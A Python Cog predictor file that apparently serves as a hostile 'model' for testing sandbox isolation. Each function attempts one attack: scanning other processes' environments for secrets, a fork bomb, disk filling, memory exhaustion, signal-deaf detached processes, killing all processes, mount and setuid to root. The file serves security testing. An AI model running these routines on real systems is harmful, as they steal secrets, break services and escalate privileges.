"""A model that means harm: each input names what it tries, and it answers how far it got."""

# ruff: noqa: S606

import ctypes
import os
import signal
import socket
import subprocess
import sys
import time
from contextlib import suppress
from pathlib import Path

from cog import BasePredictor, Input


class Predictor(BasePredictor):
    def predict(self, attack: str = Input(), target: str = Input(default="")) -> str:
        try:
            return str(globals()[attack](target))
        except BaseException as error:
            return f"failed: {type(error).__name__}: {error}"


def read(path: str) -> str:
    return f"got it: {Path(path).read_text(errors='replace')}"


def write(path: str) -> str:
    Path(path).write_text("harm")
    return "got it"


def environments(word: str) -> str:
    """Of every process that can be seen, for a secret that somebody has in theirs."""
    for path in Path("/proc").glob("[0-9]*/environ"):
        try:
            if word in path.read_text(errors="replace"):
                return f"got it: {path}"
        except OSError:
            continue
    return "failed: nowhere"


def own_environment(_: str) -> str:
    return " ".join(sorted(os.environ))


def tcp(target: str) -> str:
    host, port = target.rsplit(":", 1)
    with socket.create_connection((host, int(port)), timeout=2):
        return "got it"


def udp(target: str) -> str:
    host, port = target.rsplit(":", 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as opened:
        opened.sendto(b"harm", (host, int(port)))
    return "got it"


def unix(path: str) -> str:
    with socket.socket(socket.AF_UNIX) as opened:
        opened.connect("\0" + path[1:] if path.startswith("@") else path)
    return "got it"


FORK = """
import os, time, signal
children = []
try:
    while len(children) < 3000:
        child = os.fork()
        if child == 0:
            time.sleep(600)
            os._exit(0)
        children.append(child)
except OSError:
    pass
for child in children:
    os.kill(child, signal.SIGKILL)
print(len(children))
"""


def fork(_: str) -> str:
    """Without end; the children wait, so that all of them count."""
    done = subprocess.run([sys.executable, "-c", FORK], capture_output=True, text=True)
    return done.stdout.strip() or f"0 {done.stderr}"


def fill(places: str) -> str:
    """Megabytes that could be written, in files of 64 MB."""
    written = 0
    for place in places.split(","):
        for number in range(40):
            try:
                with Path(f"{place}/harm{number}").open("wb") as file:
                    for _ in range(64):
                        file.write(bytes(2**20))
                        file.flush()
                        written += 1
            except OSError:
                break
            time.sleep(0.05)
    return str(written)


def eat(megabytes: str) -> str:
    held = [bytearray(os.urandom(1024)) * 8192 for _ in range(int(megabytes) // 8)]
    return f"got it, {len(held)} times"


def eat_together(megabytes: str) -> str:
    """By many processes, each of which takes little and holds it until all have theirs."""
    ready, done = os.pipe()
    os.set_blocking(ready, False)
    children = set()
    for _ in range(8):
        child = os.fork()
        if child == 0:
            eat(str(int(megabytes) // 8))
            os.write(done, b"1")
            signal.pause()
        children.add(child)
    fed = 0
    while fed < len(children):
        time.sleep(0.02)
        children -= {child for child in children if os.waitpid(child, os.WNOHANG)[0]}
        with suppress(BlockingIOError):
            fed += len(os.read(ready, 8))
    for child in children:
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)
    return "got it" if len(children) == 8 else f"failed: {len(children)} of 8"


def outlive(word: str) -> str:
    """A session of its own, no parent, deaf to signals; `word` is in its command line."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            code = "import signal, time; [signal.signal(n, signal.SIG_IGN) for n in (1, 2, 15)]; "
            code += "time.sleep(600)"
            os.execv(sys.executable, [sys.executable, "-c", code, word])
        os._exit(0)
    time.sleep(0.5)
    return "got it"


def kill(_: str) -> str:
    """Everybody who can be killed."""
    os.kill(-1, signal.SIGKILL)
    return "got it"


def mount(_: str) -> str:
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.mount(b"none", b"/mnt", b"tmpfs", 0, None):
        raise OSError(ctypes.get_errno(), "mount")
    return "got it"


def become_root(_: str) -> str:
    os.setuid(0)
    Path("/etc/harm").write_text("harm")
    return "got it"
